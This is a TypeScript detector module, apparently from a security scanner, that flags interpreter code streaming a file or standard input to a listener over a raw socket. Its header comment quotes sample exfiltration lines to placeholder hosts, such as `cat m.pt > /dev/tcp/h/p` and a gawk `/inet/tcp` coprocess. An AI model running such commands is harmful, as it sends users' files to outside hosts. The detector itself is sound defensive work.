/**
 * Interpreter code that sends data over a raw network socket it opened, for MLS-EXFIL-014 through
 * `attrs.exec.socketIo` (`send <language>`, as exec-socket-io.ts gives `send cat` for `cat m.pt >
 * /dev/tcp/h/p`): a checkpoint streamed to a listener with no upload tool and no HTTP, in the
 * interpreters a base image carries (perl is in every Debian image). Python's sockets have their
 * own, finer reading (exec-interpreter-transfer-socket.ts: which file goes where); this one reads
 * Perl, Ruby, PHP, Node, Lua and awk (MITRE T1048, T1095):
 * - the code opens a network socket and binds it to a name (exec-interpreter-sockets.ts), or
 *   writes to one as it makes it (`TCPSocket.new(h, p).write(…)`, `IO::Socket::INET->new(…)->print(…)`,
 *   `fwrite(fsockopen(h, p), …)`);
 * - it writes to that socket: a method on it (`$s->print`, `$s->send`, `s.write`, `s.puts`, `s <<`,
 *   `s.end(data)`, `s:send(…)`), a function given it first (Perl `syswrite($s, …)`, `send(S, …)`;
 *   PHP `fwrite($s, …)`, `fputs`, `socket_write`, `socket_send`), Perl's `print $s …` / `print {$s} …`
 *   / `printf S …`, or a copy into it (Ruby `IO.copy_stream(src, s)`, PHP
 *   `stream_copy_to_stream($f, $s)`, Node `src.pipe(s)`);
 * - and it reads a file or its standard input, which is what it sends (Perl `open` of a file,
 *   `<STDIN>`, a slurp; Ruby `File.read` / `File.open` / `IO.binread`, `STDIN.read`; PHP
 *   `file_get_contents`, `fopen`; Node `readFileSync`, `createReadStream`, `process.stdin`; Lua
 *   `io.open`, `io.lines`, `io.read`). Code that writes only what it spells (`s.write("PING\r\n")`,
 *   a health check) reads no file and sends nothing of the pod's.
 * gawk's coprocess (`print |& "/inet/tcp/0/h/p"`, or a name holding that file) sends what awk read
 * when it prints a record or its fields (its input files or its standard input) or a line `getline
 * l < file` read; printing text it spells (`print "GET / HTTP/1.0\r\n" |& s`) sends none of the pod's.
 * Bounded: one pass over the tokens for the writes, one for the reads; never throws.
 */
import { CodeSockets, isNamed, MAKERS, type FoundSockets } from './exec-interpreter-sockets.js';
import { isOp, TK_NAME, TK_OP, TK_STR, TK_VAR, type Lang, type Token } from './exec-interpreter-token.js';
import { bracketMatch } from './exec-interpreter-value.js';

/** Methods that write what they are given to the socket they are called on, by language. */
const WRITE_METHODS: Readonly<Record<Lang, ReadonlySet<string>>> = {
  python: new Set(),
  perl: new Set(['print', 'printf', 'say', 'send', 'syswrite', 'write']),
  ruby: new Set(['write', 'print', 'puts', 'send', 'syswrite', 'write_nonblock', 'sendmsg', 'printf']),
  php: new Set(),
  js: new Set(['write', 'end', 'send']),
  lua: new Set(['send']),
  awk: new Set(),
};
/** Functions whose first argument is the socket they write to (Perl, PHP). */
const WRITE_FUNCTIONS: Readonly<Record<Lang, ReadonlySet<string>>> = {
  python: new Set(),
  perl: new Set(['syswrite', 'send']),
  ruby: new Set(),
  php: new Set(['fwrite', 'fputs', 'socket_write', 'socket_send', 'socket_sendto', 'stream_socket_sendto']),
  js: new Set(),
  lua: new Set(),
  awk: new Set(),
};
/** Copies whose second argument is the socket: Ruby `IO.copy_stream(src, s)`, PHP `stream_copy_to_stream($f, $s)`. */
const COPIES_INTO = new Set(['copy_stream', 'stream_copy_to_stream']);
/** Calls that read a file or standard input, by language (names as the tokenizer gives them: PHP's lower-cased). */
const SOURCES: Readonly<Record<Lang, ReadonlySet<string>>> = {
  python: new Set(),
  perl: new Set(['sysopen', 'read_file', 'read_binary', 'slurp', 'slurp_raw', 'STDIN']),
  ruby: new Set(['read', 'binread', 'readlines', 'foreach', 'copy_stream', 'STDIN', '$stdin', 'ARGF']),
  php: new Set(['file_get_contents', 'file', 'readfile']),
  js: new Set(['readFileSync', 'readFile', 'createReadStream', 'openAsBlob', 'stdin']),
  lua: new Set(['lines', 'read']),
  awk: new Set(),
};
/** Calls that open a file, with the index of their mode argument (a mode that starts with `r`, or none, reads). */
const OPENS: Readonly<Record<Lang, ReadonlyMap<string, number>>> = {
  python: new Map(),
  perl: new Map(),
  ruby: new Map([['open', 1]]),
  php: new Map([['fopen', 1], ['gzopen', 1]]),
  js: new Map([['openSync', 1], ['open', 1]]),
  lua: new Map([['open', 1]]),
  awk: new Map(),
};

/** Whether an open mode reads: none given (the default), one known only at run time, or one starting with `r`. */
function reads(mode: string | null | undefined): boolean {
  return mode === undefined || mode === null || /^\s*r/.test(mode);
}

/** Whether Perl's `open` second argument reads: a path, `<`, `+<`, `-|`, a run-time value; not `>`, `>>`, `+>`, `|cmd`, a dup (`>&S`, `<&=$c`). */
function perlReads(mode: string | null | undefined): boolean {
  if (mode === undefined) return false;
  if (mode === null) return true;
  return !/^\s*(?:\+?>|\|)/.test(mode) && !/^\s*\+?[<>]{1,2}&/.test(mode);
}

/** The Ruby receivers whose `read` family reads a file (`File.read(p)`, `IO.binread(p)`), not a socket's. */
const RUBY_FILE_CLASSES = new Set(['File', 'IO', 'Pathname']);
/** Lua's file library. */
const LUA_IO: ReadonlySet<string> = new Set(['io']);
/** gawk's network special files. */
const AWK_INET = /^\/inet[46]?\/(tcp|udp)\//;

/** Whether `t`, after `print $s`, starts the list printed to the handle `$s` (`print $s;`, `print $s, $x` and `print $s->x` print `$s` itself). */
function startsList(t: Token | undefined): boolean {
  return t !== undefined && !(t.k === TK_OP && (t.v === ';' || t.v === ',' || t.v === '->' || t.v === ')' || t.v === '.' || t.v === '=' || t.v === '}'));
}

/**
 * `send <language>` when code `ts` in `lang` sends a file or its standard input over a network
 * socket it opened; else null. `found`: the code's sockets, when the caller found them already.
 */
export function socketSend(ts: readonly Token[], lang: Lang, found?: FoundSockets): string | null {
  if (lang === 'python') return null;
  try {
    return new SocketSend(ts, lang, found).judge();
  } catch {
    return null;
  }
}

class SocketSend extends CodeSockets {
  /** Each bracket's partner (exec-interpreter-value.ts), made when the code opens a socket. */
  private match: Int32Array = new Int32Array(0);

  judge(): string | null {
    if (!this.opens) return null;
    this.match = bracketMatch(this.ts);
    if (!this.writesSocket()) return null;
    if (this.lang !== 'awk' && !this.readsSource()) return null;
    return `send ${this.lang === 'js' ? 'node' : this.lang}`;
  }

  /** Whether the token at `i` is a socket: a name bound to one, or the `)` ending a call that makes one (`TCPSocket.new(h, p)`). */
  private socketAt(i: number): boolean {
    const t = this.ts[i];
    if (t === undefined) return false;
    if (this.isSocket(t)) return true;
    if (this.lang === 'awk') return t.k === TK_STR && AWK_INET.test(t.v);
    if (!isOp(t, ')')) return false;
    const open = this.openingParen(i);
    if (open < 1) return false;
    return this.makesSocket(open - 1);
  }

  /** Whether the callee ending at token `c` (the name before a call's `(`) makes a socket: `fsockopen`, `TCPSocket.new`, `IO::Socket::INET->new`, `net.connect`. */
  private makesSocket(c: number): boolean {
    const ts = this.ts;
    const makers = MAKERS[this.lang];
    const t = ts[c];
    if (t?.k !== TK_NAME) return false;
    if (makers.has(t.v)) return this.lang !== 'js' || isOp(ts[c - 1], '.');
    // `<Maker>.new(…)`, `<Maker>->new(…)`.
    return t.v === 'new' && (isOp(ts[c - 1], '.') || isOp(ts[c - 1], '->')) && ts[c - 2]?.k === TK_NAME && makers.has(ts[c - 2]!.v);
  }

  /** The index of the `(` that the `)` at `close` ends, or -1. */
  private openingParen(close: number): number {
    const open = this.match[close]!;
    return open >= 0 && open < close && isOp(this.ts[open], '(') ? open : -1;
  }

  /** Whether the code writes to a socket (see the header). */
  private writesSocket(): boolean {
    const ts = this.ts;
    const methods = WRITE_METHODS[this.lang];
    const functions = WRITE_FUNCTIONS[this.lang];
    for (let i = 0; i < ts.length; i++) {
      const t = ts[i]!;
      if (this.lang === 'awk') {
        // `print |& s`, `print $0 |& "/inet/tcp/0/h/p"`, `print l |& s` of a line `getline l < file` read.
        if (isOp(t, '|&') && this.socketAt(i + 1) && this.awkPrintsInput(i)) return true;
        continue;
      }
      // A method on the socket: `$s->print(`, `s.write(`, `t:send(`; Ruby `s << data`.
      if ((isOp(t, '.') || isOp(t, '->') || isOp(t, ':')) && isNamed(ts[i + 1]) && methods.has(ts[i + 1]!.v) && this.socketAt(i - 1)) return true;
      // The tokenizer gives `<<` as two `<` (one could start a heredoc).
      if (this.lang === 'ruby' && isOp(t, '<') && isOp(ts[i + 1], '<') && this.socketAt(i - 1)) return true;
      if (t.k !== TK_NAME) continue;
      // A function given the socket first: `fwrite($s, …)`, `syswrite($s, …)`, `send(S, …)`.
      if (functions.has(t.v) && isOp(ts[i + 1], '(') && this.argIsSocket(i + 2, 0)) return true;
      // Perl `print $s LIST`, `print {$s} LIST`, `printf S LIST`: a handle before the list, no comma after it.
      if (this.lang === 'perl' && (t.v === 'print' || t.v === 'printf' || t.v === 'say')) {
        let k = isOp(ts[i + 1], '(') ? i + 2 : i + 1;
        const braced = isOp(ts[k], '{');
        if (braced) k++;
        if (this.isSocket(ts[k]) && (braced ? isOp(ts[k + 1], '}') : startsList(ts[k + 1]))) return true;
      }
      // A copy into the socket: `IO.copy_stream(src, s)`, `stream_copy_to_stream($f, $s)`, Node `src.pipe(s)`.
      if ((COPIES_INTO.has(t.v) || (this.lang === 'js' && t.v === 'pipe')) && isOp(ts[i + 1], '(') && this.argIsSocket(i + 2, t.v === 'pipe' ? 0 : 1)) return true;
    }
    return false;
  }

  /**
   * Whether the awk statement whose `|&` is at `i` prints what awk read: a bare `print` (the record),
   * a field (`$0`, `$2`), or a name a `getline NAME < file` read; not text it spells (`print "GET /
   * HTTP/1.0" |& s`, a request).
   */
  private awkPrintsInput(i: number): boolean {
    const ts = this.ts;
    let k = i - 1;
    for (; k >= 0; k--) {
      const t = ts[k]!;
      if (isOp(t, ';') || isOp(t, '{') || isOp(t, '}')) return false;
      if (t.k === TK_NAME && (t.v === 'print' || t.v === 'printf')) break;
    }
    if (k < 0) return false;
    if (k === i - 1) return true;
    for (let j = k + 1; j < i; j++) {
      const t = ts[j]!;
      if (t.k === TK_VAR && t.v.startsWith('$')) return true;
      if (t.k === TK_NAME && this.awkReadsInto(t.v)) return true;
    }
    return false;
  }

  /** Whether the awk code reads a line from a file into `name` (`getline name < file`). */
  private awkReadsInto(name: string): boolean {
    const ts = this.ts;
    for (let j = 0; j + 2 < ts.length; j++) if (ts[j]!.k === TK_NAME && ts[j]!.v === 'getline' && ts[j + 1]!.v === name && isOp(ts[j + 2], '<')) return true;
    return false;
  }

  /** Whether argument `n` (0-based) of the call whose arguments start at `from` is a socket: a name bound to one, or a call that makes one. */
  private argIsSocket(from: number, n: number): boolean {
    const a = this.arg(from, n);
    return a !== null && this.argSocket(a[0], a[1]);
  }

  /**
   * The tokens [start, end) of argument `n` (0-based) of a call whose arguments start at `from`
   * (after its `(`, or after its name for Perl's calls without parentheses), or null when it has
   * fewer: arguments end at a `,`, a `)` or a `;` outside brackets.
   */
  private arg(from: number, n: number): [number, number] | null {
    const ts = this.ts;
    let arg = 0;
    let start = from;
    for (let k = from; k <= ts.length; k++) {
      const t = ts[k];
      // A bracket group is stepped over whole (to the text's end when unclosed).
      if (t !== undefined && (isOp(t, '(') || isOp(t, '[') || isOp(t, '{'))) k = Math.min(this.match[k]!, ts.length - 1);
      else if (t === undefined || isOp(t, ')') || isOp(t, ']') || isOp(t, '}') || isOp(t, ';')) return arg === n && k > start ? [start, k] : null;
      else if (isOp(t, ',')) {
        if (arg === n) return k > start ? [start, k] : null;
        arg++;
        start = k + 1;
      }
    }
    return null;
  }

  /**
   * The mode argument `n` of the call named at `i` as a string: undefined when the call has no
   * such argument, null when it is not a string literal (a value known at run time).
   */
  private modeOf(i: number, n: number): string | null | undefined {
    const ts = this.ts;
    const a = this.arg(isOp(ts[i + 1], '(') ? i + 2 : i + 1, n);
    if (a === null) return undefined;
    const t = ts[a[0]]!;
    return a[1] - a[0] === 1 && t.k === TK_STR ? t.v : null;
  }

  /** Whether the argument spanning tokens [from, to) is a socket (`$s`, `my $s` excepted, or `fsockopen(…)`). */
  private argSocket(from: number, to: number): boolean {
    if (to - from === 1) return this.isSocket(this.ts[from]);
    return to - from > 1 && isOp(this.ts[to - 1], ')') && this.socketAt(to - 1) && this.openingParen(to - 1) === from + 1;
  }

  /** Whether the code reads a file or its standard input (see the header). */
  private readsSource(): boolean {
    const ts = this.ts;
    const sources = SOURCES[this.lang];
    const opens = OPENS[this.lang];
    for (let i = 0; i < ts.length; i++) {
      const t = ts[i]!;
      if (this.lang === 'perl') {
        // `open(F, "<", p)`, `open(F, p)`, `open my $f, '<', $p`: a file opened to be read (not `>`, `>>`, `|`, a handle's dup `>&S`).
        if (t.k === TK_NAME && t.v === 'open' && perlReads(this.modeOf(i, 1))) return true;
        // `<STDIN>`, `<>`, `<F>`: a line read from a handle.
        if (isOp(t, '<') && (isOp(ts[i + 1], '>') || (isNamed(ts[i + 1]) && isOp(ts[i + 2], '>') && !this.isSocket(ts[i + 1])))) return true;
      }
      if (t.k !== TK_NAME) continue;
      // A file opened with a mode that reads (`File.open(p)`, `fopen($p, "rb")`, `io.open(p, "rb")`; not "w" or "a").
      const mode = opens.get(t.v);
      if (mode !== undefined && this.opensFile(i) && reads(this.modeOf(i, mode))) return true;
      if (!sources.has(t.v)) continue;
      if (this.lang === 'ruby' && (t.v === 'read' || t.v === 'binread' || t.v === 'readlines' || t.v === 'foreach')) {
        // `File.read(p)`, `IO.binread(p)`, `STDIN.read` (a name in SOURCES itself); not `s.read` (the socket's).
        if (this.calledOn(i, RUBY_FILE_CLASSES) || this.calledOn(i, sources)) return true;
        continue;
      }
      if (this.lang === 'lua' && !this.calledOn(i, LUA_IO)) continue;
      return true;
    }
    return false;
  }

  /** Whether the open call named at `i` opens a file: Ruby's on File or IO, Lua's on io; PHP's and Node's by their names. */
  private opensFile(i: number): boolean {
    if (!isOp(this.ts[i + 1], '(')) return false;
    if (this.lang === 'ruby') return this.calledOn(i, RUBY_FILE_CLASSES);
    return this.lang !== 'lua' || this.calledOn(i, LUA_IO);
  }

  /** Whether the name at `i` is called on one of `receivers` (`File.read`, `io.open`). */
  private calledOn(i: number, receivers: ReadonlySet<string>): boolean {
    const recv = this.ts[i - 2];
    return isOp(this.ts[i - 1], '.') && recv?.k === TK_NAME && receivers.has(recv.v);
  }
}
